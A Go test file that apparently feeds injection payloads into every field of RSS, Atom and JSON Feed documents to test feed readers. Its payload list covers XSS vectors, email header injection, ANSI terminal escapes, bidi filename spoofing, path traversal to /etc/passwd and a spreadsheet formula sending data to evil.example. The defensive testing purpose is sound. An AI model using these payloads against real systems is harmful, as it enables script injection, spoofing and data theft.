package hostile

import (
	encjson "encoding/json"
	"fmt"
	"html"
	"strings"
)

// payload is what stands in a field and would rather be somewhere else.
type payload struct{ name, text string }

// payloads are put into every field of every format.
func payloads() []payload {
	return []payload{
		{"script", `<script>alert(1)</script>`},
		{"script-split", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
		{"script-escaped-twice", `&lt;script&gt;alert(1)&lt;/script&gt;`},
		{"handler", `<img src=x onerror=alert(1)>`},
		{"svg", `<svg/onload=alert(1)><animate onbegin=alert(1)>`},
		{"frame", `<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="//evil.example"></object>`},
		{"style", `<style>@import url(https://evil.example/);</style><p style="background:url(javascript:alert(1))">`},
		{"base", `<base href="https://evil.example/"><form action="//evil.example"><input autofocus onfocus=alert(1)>`},
		{"attribute", `" onmouseover="alert(1)" x="`},
		{"template", `{{.}}{{printf "%s" .}}${7*7}<%= 7*7 %>#{7*7}`},
		{"comment", `<!--><img src=x onerror=alert(1)>-->`},
		{"cdata", `]]><script>alert(1)</script><![CDATA[`},
		{"javascript", `javascript:alert(1)`},
		{"javascript-spelt", "java\tscript\n:alert(1)"},
		{"javascript-capital", ` JaVaScRiPt:alert(1)//https://wire.example/`},
		{"vbscript", `vbscript:msgbox(1)`},
		{"data", `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`},
		{"file", `file:///etc/passwd`},
		{"header", "Title\r\nBcc: everybody@evil.example\r\n\r\nBody"},
		{"header-line-feed", "Title\nBcc: everybody@evil.example"},
		{"header-encoded", `=?utf-8?q?Title=0d=0aBcc:_everybody@evil.example?=`},
		{"header-separators", "Title\u2028Bcc: a@evil.example\u2029Bcc: b@evil.example\u0085Bcc: c@evil.example"},
		{"log", "Title\nlevel=ERROR msg=\"all is lost\"\n{\"level\":\"ERROR\"}"},
		{"ansi", "\x1b[2J\x1b[31mred\x1b[0m"},
		{"ansi-title", "\x1b]0;owned\x07\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07"},
		{"ansi-device", "\x1bP$q\"p\x1b\\\x1b_x\x1b\\\x1b[6n\x1bc"},
		{"ansi-8-bit", "\u009b31mred\u009d0;owned\u009c"},
		{"ansi-reference", "&#27;[31mred&#x1b;]0;owned&#7;"},
		{"bidi-override", "Photo \u202egnp.exe"},
		{"bidi-isolates", "a \u2066b\u2067 c\u2068 d\u2069\u2069\u2069"},
		{"bidi-marks", "\u200ea\u200fb\u061c"},
		{"bidi-reference", "Photo &#x202e;gnp.exe &#8297;"},
		{"zero-width", "B\u200ba\u2060k\ufeffu\u00ad"},
		{"invisible-tags", "a\U000e0001\U000e0041\U000e007f"},
		{"emoji", strings.Repeat("👩‍👩‍👧‍👦", 10_000)},
		{"accents", "a" + strings.Repeat("\u0301\u0322", 10_000)},
		{"controls", "\x00\x01\x08\x0e\x1a\x7f"},
		{"address-bidi", "https://wire.example/\u202egnp.exe?a=\u2066b#\u200f"},
		{"address-zero-width", "https://wire.example/a\u200bb\ufeffc\u00add"},
		{"address-escapes", "https://wire.example/\x1b[31m\u009b?a=\x07"},
		{"address-line-breaks", "https://wire.example/a\r\nBcc: everybody@evil.example"},
		{"address-quotes", `https://wire.example/"><script>alert(1)</script>`},
		{"address-login", `https://bank.example:pass@evil.example/`},
		{"address-host", "https://wire\u202e.example\u2066/"},
		{"address-backslash", `https:\\evil.example\`},
		{"spreadsheet", `=HYPERLINK("https://evil.example/"&A1,"x")`},
		{"path", `../../../../etc/passwd`},
		{"format", `%s%n%x %!d(string=x) \u202e \x1b[31m`},
	}
}

// injections put every payload into every field, in each format.
func injections() []Case {
	var cases []Case
	for _, p := range payloads() {
		cases = append(cases,
			Case{Name: "inject-rss-" + p.name, Entries: 1, Markup: true, handler: made(func() handler { return xml(injectRSS(p.text)) })},
			Case{Name: "inject-atom-" + p.name, Entries: 1, Markup: true, handler: made(func() handler { return xml(injectAtom(p.text)) })},
			Case{Name: "inject-json-" + p.name, Entries: 1, handler: made(func() handler { return json(injectJSON(p.text)) })},
		)
	}
	return grouped(Injection, cases)
}

// injectRSS has the payload in every field, escaped as a writer of XML must.
func injectRSS(p string) string {
	in := html.EscapeString(p)
	return fmt.Sprintf(`<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>%[1]s</title><link>%[1]s</link><language>%[1]s</language><description>%[1]s</description><ttl>%[1]s</ttl><generator>%[1]s</generator>
<item><title>Bridge %[1]s</title><link>%[1]s</link><guid isPermaLink="true">%[1]s</guid><author>%[1]s</author><dc:creator>%[1]s</dc:creator><dc:language>%[1]s</dc:language>
<category domain="%[1]s">%[1]s</category><pubDate>%[1]s</pubDate><comments>%[1]s</comments><source url="%[1]s">%[1]s</source><enclosure url="%[1]s" type="%[1]s" length="%[1]s"/>
<description>The bridge. %[1]s</description><content:encoded><![CDATA[<p>The bridge is open. %[2]s</p>]]></content:encoded></item></channel></rss>`,
		in, strings.ReplaceAll(p, "]]>", "]]]]><![CDATA[>"))
}

// injectAtom is injectRSS for Atom.
func injectAtom(p string) string {
	in := html.EscapeString(p)
	return fmt.Sprintf(`<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="%[1]s"><title type="html">%[1]s</title><id>%[1]s</id><link rel="alternate" href="%[1]s"/><link rel="self" href="%[1]s"/><generator uri="%[1]s">%[1]s</generator>
<entry xml:base="%[1]s" xml:lang="%[1]s"><title type="html">Bridge %[1]s</title><id>%[1]s</id><link href="%[1]s" title="%[1]s" hreflang="%[1]s"/><author><name>%[1]s</name><uri>%[1]s</uri><email>%[1]s</email></author>
<category term="%[1]s" label="%[1]s"/><published>%[1]s</published><updated>%[1]s</updated><summary type="html">The bridge. %[1]s</summary><content type="html">The bridge is open. %[1]s</content></entry></feed>`, in)
}

// injectJSON is injectRSS for JSON Feed.
func injectJSON(p string) string {
	b, err := encjson.Marshal(map[string]any{
		"version": "https://jsonfeed.org/version/1.1", "title": p, "home_page_url": p, "feed_url": p, "language": p, "description": p,
		"items": []any{map[string]any{
			"id": p, "url": p, "external_url": p, "title": "Bridge " + p, "content_html": "The bridge is open. " + p, "content_text": p, "summary": p,
			"image": p, "date_published": p, "date_modified": p, "language": p, "authors": []any{map[string]any{"name": p, "url": p}},
			"tags": []any{p}, "attachments": []any{map[string]any{"url": p, "mime_type": p}},
		}},
	})
	if err != nil {
		panic(err) // texts alone
	}
	return string(b)
}
